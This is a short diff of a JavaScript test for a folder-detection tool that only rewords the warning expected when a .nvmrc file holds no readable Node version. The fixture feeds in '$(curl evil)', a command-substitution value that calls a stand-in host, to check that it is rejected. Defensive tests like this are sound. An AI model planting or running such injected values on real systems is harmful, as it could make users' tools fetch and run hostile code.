@@ -75,5 +75,5 @@ describe('versions of package managers', () => {
 
 test('what cannot be a version is said and left out', async () => {
   const { runtimeVersion, warnings } = await detectFolder(await temporaryFolder({ '.nvmrc': '$(curl evil)\n', 'index.html': '' }))
-  expect([runtimeVersion, warnings]).toEqual([{}, ['.nvmrc names no version of node that can be read']])
+  expect([runtimeVersion, warnings]).toEqual([{}, ['.nvmrc contains no valid version of node']])
 })
